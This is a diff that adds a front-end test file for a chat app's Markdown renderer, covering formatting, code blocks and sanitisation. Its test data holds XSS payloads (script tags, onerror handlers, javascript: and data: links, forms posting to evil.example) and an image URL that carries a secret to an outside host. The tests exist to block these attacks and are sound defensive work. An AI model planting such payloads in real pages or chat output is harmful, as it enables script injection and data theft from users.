@@ -1,0 +1,80 @@
+import { cleanup, render, screen } from '@testing-library/react'
+import { afterEach, describe, expect, test } from 'vitest'
+import { MarkdownView } from '#app/_chat/markdown-view.tsx'
+
+afterEach(cleanup)
+
+const show = (text: string, streaming = false) => render(<MarkdownView text={text} streaming={streaming} />).container
+
+describe('what a model writes', () => {
+  test('is Markdown', () => {
+    const page = show('# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done')
+    expect(page.querySelector('h1')?.textContent).toBe('Title')
+    expect(page.querySelector('strong')?.textContent).toBe('bold')
+    expect(page.querySelector('p code')?.textContent).toBe('code')
+    expect(screen.getByRole('table').querySelectorAll('td')).toHaveLength(2)
+    expect(page.querySelector('input[type=checkbox]')).not.toBeNull()
+  })
+
+  test('shows code with its language and a way to copy it', () => {
+    const page = show('```ts\nconst a = 1 < 2\n```')
+    expect(page.querySelector('figcaption')?.textContent).toContain('ts')
+    expect(page.querySelector('pre code')?.textContent).toBe('const a = 1 < 2')
+    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy()
+  })
+
+  test('is readable while a code fence and emphasis are still open', () => {
+    expect(show('```py\nprint(1', true).querySelector('pre code')?.textContent).toBe('print(1')
+    expect(show('so **bold', true).querySelector('strong')?.textContent).toBe('bold')
+  })
+
+  test.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<svg onload=alert(1)></svg>',
+    '<style>*{display:none}</style>',
+    '<a href="javascript:alert(1)">x</a>',
+    'text <b onclick="alert(1)">inline</b>',
+    '<form action="https://evil.example"><input name=a><button>go</button></form>',
+  ])('is shown as text where it is HTML: %s', (html) => {
+    const page = show(html)
+    expect(page.querySelector('script, img, iframe, svg[onload], style, a, b, form, [onclick], [onerror]')).toBeNull()
+    expect(page.textContent).toContain(html.slice(0, 5))
+  })
+
+  test.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](vbscript:msgbox(1))',
+    '<javascript:alert(1)>',
+    '[x](file:///etc/passwd)',
+    '[x](/api/sessions)',
+  ])('links to the web only: %s', (markdown) => {
+    expect(show(markdown).querySelector('a[href]')).toBeNull()
+  })
+
+  test('opens links elsewhere, without telling where they were', () => {
+    show('[docs](https://example.org/a)')
+    const link = screen.getByRole('link', { name: 'docs' })
+    expect(link.getAttribute('href')).toBe('https://example.org/a')
+    expect(link.getAttribute('target')).toBe('_blank')
+    expect(link.getAttribute('rel')).toContain('noopener')
+  })
+
+  test('loads no picture from elsewhere, and says which one it was', () => {
+    const page = show('![a cat](https://evil.example/cat.png?secret=1)')
+    expect(page.querySelector('img')).toBeNull()
+    expect(page.textContent).toContain('Picture not loaded: a cat')
+    expect(screen.getByRole('link').getAttribute('href')).toBe('https://evil.example/cat.png?secret=1')
+  })
+
+  test.each([
+    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+    '![x](javascript:alert(1))',
+    '![x][ref]\n\n[ref]: //evil.example/x',
+  ])('loads no picture by any other way: %s', (markdown) => {
+    expect(show(markdown).querySelector('img, a[href]')).toBeNull()
+  })
+})
